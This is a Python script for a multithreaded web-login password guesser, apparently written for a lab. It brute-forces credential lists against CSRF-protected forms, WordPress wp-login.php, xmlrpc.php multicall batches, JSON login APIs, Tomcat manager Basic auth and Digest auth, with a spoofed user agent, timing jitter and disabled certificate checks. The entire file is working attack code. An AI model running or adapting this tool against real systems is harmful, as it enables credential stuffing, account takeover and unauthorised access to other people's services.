"""A guesser for web logins as people write one: a page is asked for cookie and token, then a form, a call or a header is sent.

`--kept` keeps one connection and one session for all tries of a thread, as python-requests' Session does; else each try is a
visitor of its own.
"""

import argparse
import base64
import hashlib
import http.client
import itertools
import json
import os
import random
import re
import ssl
import threading
import time
import urllib.parse
from pathlib import Path

LEGACY = "<value><string>{}</string></value>"
FORM = {"Content-Type": "application/x-www-form-urlencoded"}


class Visitor:
    """A connection with its cookies."""

    def __init__(self, o: argparse.Namespace) -> None:
        self.o, self.cookies = o, dict[str, str]()
        context = ssl._create_unverified_context()  # noqa: S323 - the lab's certificate is signed by nobody
        made = http.client.HTTPSConnection(o.host, o.port, timeout=8, context=context) if o.tls else None
        self.made = made or http.client.HTTPConnection(o.host, o.port, timeout=8)

    def ask(self, method: str, path: str, body: str = "", more: dict[str, str] | None = None) -> tuple[int, str, str]:
        """Status, content and where a redirect leads."""
        fields = {"User-Agent": "python-requests/2.31.0", "Accept": "*/*", **(more or {})}
        if self.cookies:
            fields["Cookie"] = "; ".join(f"{key}={value}" for key, value in self.cookies.items())
        if not self.o.kept:
            fields["Connection"] = "close"
        self.made.request(method, path, body or None, fields)
        answer = self.made.getresponse()
        for line in answer.headers.get_all("Set-Cookie") or []:
            key, _, value = line.partition(";")[0].partition("=")
            self.cookies[key] = value
        text = answer.read().decode("latin-1")
        if not self.o.kept:
            self.made.close()
        return answer.status, text, answer.headers.get("Location") or answer.headers.get("WWW-Authenticate") or ""

    def token(self, user: str, password: str) -> None:
        """The form with its token, then the answer's redirect."""
        found = re.search(r'csrf_token" value="(\w+)"', self.ask("GET", "/login")[1])
        sent = {"username": user, "password": password, "csrf_token": found[1] if found else ""}
        status, _, where = self.ask("POST", "/login", urllib.parse.urlencode(sent), FORM)
        if status == 302 and self.o.follow:
            self.ask("GET", where)

    def wordpress(self, user: str, password: str) -> None:
        """wp-login.php."""
        sent = {"log": user, "pwd": password, "wp-submit": "Log In", "redirect_to": "/wp-admin/", "testcookie": "1"}
        self.ask("POST", "/wp-login.php", urllib.parse.urlencode(sent), FORM)

    def calls(self, user: str, password: str) -> None:
        """xmlrpc.php, with `--many` tries in one system.multicall."""
        value = LEGACY.format(user) + LEGACY.format(password)
        call = f"<methodCall><methodName>wp.getUsersBlogs</methodName><params>{value * self.o.many}</params></methodCall>"
        self.ask("POST", "/xmlrpc.php", call, {"Content-Type": "text/xml"})

    def api(self, user: str, password: str) -> None:
        """JSON."""
        sent = json.dumps({"username": user, "password": password})
        self.ask("POST", "/api/login", sent, {"Content-Type": "application/json"})

    def basic(self, user: str, password: str) -> None:
        """The manager's page with a header."""
        coded = base64.b64encode(f"{user}:{password}".encode()).decode()
        self.ask("GET", "/manager/html", "", {"Authorization": f"Basic {coded}"})

    def digest(self, user: str, password: str) -> None:
        """A refusal with a nonce, then the answer to it (RFC 7616)."""
        asks = self.ask("GET", "/digest/")[2]
        nonce = (re.search(r'nonce="(\w+)"', asks) or ["", ""])[1]
        first, second = (_md5(text) for text in (f"{user}:lab:{password}", "GET:/digest/"))
        client = os.urandom(8).hex()
        answer = _md5(f"{first}:{nonce}:00000001:{client}:auth:{second}")
        said = f'username="{user}", realm="lab", nonce="{nonce}", uri="/digest/", qop=auth, nc=00000001, cnonce="{client}"'
        self.ask("GET", "/digest/", "", {"Authorization": f'Digest {said}, response="{answer}"'})


def _md5(text: str) -> str:
    return hashlib.md5(text.encode(), usedforsecurity=False).hexdigest()


def main() -> None:
    """Try pairs until `--seconds` are over; the same list again from its start where it was short."""
    parser = argparse.ArgumentParser()
    parser.add_argument("way", choices=("token", "wordpress", "calls", "api", "basic", "digest"))
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--users", type=Path, required=True)
    parser.add_argument("--passwords", type=Path, required=True)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--kept", action="store_true", help="one connection and session for all tries of a thread")
    parser.add_argument("--follow", action="store_true", help="ask for the page to which a refusal leads")
    parser.add_argument("--many", type=int, default=1, help="calls: pairs in one request")
    parser.add_argument("--parallel", type=int, default=1)
    parser.add_argument("--pause", type=float, default=0.0, help="seconds after each try of a thread")
    parser.add_argument("--jitter", type=float, default=0.2, help="share by which the pause varies")
    parser.add_argument("--seconds", type=float, default=14.0)
    o = parser.parse_args()
    pairs = itertools.cycle([(u, p) for u in o.users.read_text().split() for p in o.passwords.read_text().split()])
    until, lock = time.monotonic() + o.seconds, threading.Lock()

    def work() -> None:
        visitor = Visitor(o)
        while time.monotonic() < until:
            with lock:
                user, password = next(pairs)
            try:
                getattr(visitor, o.way)(user, password)
            except (OSError, http.client.HTTPException):
                visitor = Visitor(o)
            if not o.kept:
                visitor = Visitor(o)
            time.sleep(o.pause * random.uniform(1 - o.jitter, 1 + o.jitter))

    for _ in range(o.parallel):  # the process ends with the last of them
        threading.Thread(target=work).start()


if __name__ == "__main__":
    main()
